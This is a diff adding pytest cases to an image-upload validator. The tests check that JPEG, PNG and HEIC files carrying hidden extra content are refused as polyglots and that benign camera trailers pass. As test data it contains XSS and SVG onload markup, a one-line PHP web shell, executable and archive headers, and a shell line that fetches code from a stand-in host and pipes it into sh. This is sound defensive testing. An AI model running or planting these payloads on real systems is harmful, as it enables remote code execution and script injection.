@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import io
+import struct
 import time
 
 import pytest
@@ -243,3 +244,174 @@ def test_samsung_jpeg_with_sef_trailer_is_accepted():
 def test_markup_hidden_in_an_allowed_trailer_is_polyglot():
     data = uploads.samsung_sef_jpeg(value=b"<script>alert(1)</script>")
     assert rejected(data).code == "polyglot"
+
+
+# ---------------------------------------------------------------- bytes after the image
+
+
+def pe_header() -> bytes:
+    """The start of a Windows executable: DOS header pointing at the PE header."""
+    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
+    return dos + b"PE\x00\x00" + bytes(64)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        uploads.card_slack_jpeg(),
+        uploads.card_slack_jpeg(uploads.stale_jpeg_start()),
+        uploads.card_slack_jpeg(uploads.random_bytes(20_000)),
+        uploads.card_slack_jpeg(uploads.stale_web_page()),
+        uploads.card_slack_jpeg(uploads.stale_web_page(), fill=b"\xff"),
+        # A BlackBerry-style binary record: not card slack (the size is no sector multiple).
+        uploads.jpeg() + b"\x00\x00\x90\x00" + uploads.random_bytes(36_860),
+        # Stale data straight after the end marker, as a 1997 camera left it.
+        uploads.jpeg() + uploads.random_bytes(2615, seed=3),
+        uploads.jpeg() + uploads.stale_jpeg_start(),
+    ],
+    ids=[
+        "zeros",
+        "stale-jpeg-cut-short",
+        "stale-random-sectors",
+        "stale-web-page-in-slack",
+        "stale-web-page-after-ff-fill",
+        "binary-record",
+        "stale-data-right-after-eoi",
+        "jpeg-looking-data-right-after-eoi",
+    ],
+)
+def test_card_slack_and_phone_records_after_the_jpeg_are_accepted(data):
+    assert_inspected(data, "image", "JPEG", "image/jpeg", (64, 48))
+
+
+def test_card_slack_shape_is_what_the_camera_writes():
+    data = uploads.card_slack_jpeg(uploads.stale_web_page())
+    assert len(data) % 4096 == 0
+    assert data.index(b"<html>") % 4096 == 0
+
+
+TAR_HEADER = b"payload.sh".ljust(257, b"\x00") + b"ustar\x0000" + bytes(242)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        b"<html><body><script>alert(1)</script></body></html>",
+        b"\n\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+        b"<?php system($_GET['c']); ?>",
+        uploads.zip_file(),
+        b"Rar!\x1a\x07\x01\x00" + bytes(32),
+        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(32),
+        b"\x1f\x8b\x08\x00" + bytes(16),
+        b"BZh91AY&SY" + bytes(16),
+        b"\xfd7zXZ\x00\x00\x04" + bytes(16),
+        TAR_HEADER,
+        pe_header(),
+        b"\x7fELF\x02\x01\x01" + bytes(32),
+        b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(32),
+        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
+        uploads.pdf(),
+    ],
+    ids=[
+        "html",
+        "svg",
+        "php",
+        "zip",
+        "rar",
+        "7z",
+        "gzip",
+        "bzip2",
+        "xz",
+        "tar",
+        "pe",
+        "elf",
+        "mach-o",
+        "shebang",
+        "pdf",
+    ],
+)
+def test_appended_documents_archives_and_executables_are_polyglots(payload):
+    assert rejected(uploads.jpeg() + payload).code == "polyglot"
+    assert rejected(uploads.png() + payload).code == "polyglot"
+    # Padding before the payload does not hide it.
+    assert rejected(uploads.jpeg() + bytes(100) + payload).code == "polyglot"
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [b"<?php system($_GET['c']); ?>", uploads.zip_file(), b"Rar!\x1a\x07\x01\x00", uploads.pdf()],
+    ids=["php", "zip", "rar", "pdf"],
+)
+def test_payloads_found_at_any_offset_are_refused_in_card_slack_too(payload):
+    """An interpreter or archiver finds these wherever they are, even among stale sectors."""
+    data = uploads.card_slack_jpeg(uploads.random_bytes(5000) + payload)
+    assert len(data) % 4096 == 0
+    assert rejected(data).code == "polyglot"
+
+
+def test_executable_at_the_start_of_card_slack_is_refused():
+    assert rejected(uploads.card_slack_jpeg(pe_header())).code == "polyglot"
+
+
+def test_markup_outside_card_slack_is_a_polyglot():
+    page = uploads.stale_web_page()
+    # Straight after the end marker, even in a file of whole clusters.
+    data = uploads.jpeg() + page
+    assert rejected(data + bytes(-len(data) % 4096)).code == "polyglot"
+    # Inside a binary record that is not card slack (the file ends mid-sector).
+    assert rejected(uploads.jpeg() + uploads.random_bytes(3000) + page).code == "polyglot"
+    # A file of whole sectors whose last image sector is not zero-filled.
+    data = uploads.jpeg() + uploads.random_bytes(700, seed=5) + page
+    assert rejected(data + bytes(-len(data) % 4096)).code == "polyglot"
+
+
+def test_zip_hidden_in_a_jpeg_comment_is_a_polyglot():
+    """ZIP readers find an archive by its end record near the end of the file."""
+    data = uploads.jpeg(size=(16, 12), comment=uploads.zip_file())
+    assert rejected(data).code == "polyglot"
+
+
+def test_samsung_png_with_sef_block_after_iend_is_accepted():
+    data = uploads.samsung_sef_png()
+    assert data.endswith(b"SEFT")
+    assert_inspected(data, "image", "PNG", "image/png", (64, 48))
+
+
+def test_markup_in_a_png_sef_block_is_a_polyglot():
+    assert rejected(uploads.samsung_sef_png(b"<script>alert(1)</script>")).code == "polyglot"
+
+
+def test_samsung_heic_with_sefd_box_is_accepted():
+    assert_inspected(uploads.samsung_sefd_heic(), "image", "HEIC", "image/heic", (64, 48))
+
+
+@pytest.mark.parametrize(
+    "block",
+    [
+        uploads.sef_block(b"<html><script>alert(1)</script></html>"),
+        uploads.sef_block(b"PK\x03\x04 hidden zip"),
+        b"<html><script>alert(1)</script></html>",
+    ],
+    ids=["markup-in-sef", "zip-in-sef", "not-sef"],
+)
+def test_sefd_box_holding_anything_but_sef_data_is_a_polyglot(block):
+    assert rejected(uploads.samsung_sefd_heic(block)).code == "polyglot"
+
+
+def test_svg_icon_in_a_c2pa_manifest_in_the_first_kilobyte_is_accepted():
+    data = uploads.c2pa_icon_png()
+    assert data.find(b"<svg") < 1024
+    assert_inspected(data, "image", "PNG", "image/png", (64, 48))
+
+
+def test_markup_in_the_head_of_a_png_outside_a_text_chunk_is_a_polyglot():
+    svg = b"<svg onload=alert(1)>"
+    assert rejected(uploads.png_with_chunk_after_ihdr(b"prVt", svg)).code == "polyglot"
+    # A text chunk whose CRC does not check is not a well-formed chunk.
+    data = bytearray(uploads.png_with_chunk_after_ihdr(b"tEXt", b"Comment\x00" + svg))
+    crc_at = 8 + 25 + 8 + len(b"Comment\x00" + svg)
+    data[crc_at] ^= 0xFF
+    assert rejected(bytes(data)).code == "polyglot"
+    # Bare markup between the signature and the chunks.
+    png = uploads.png()
+    assert rejected(png[:8] + svg + png[8:]).code == "polyglot"
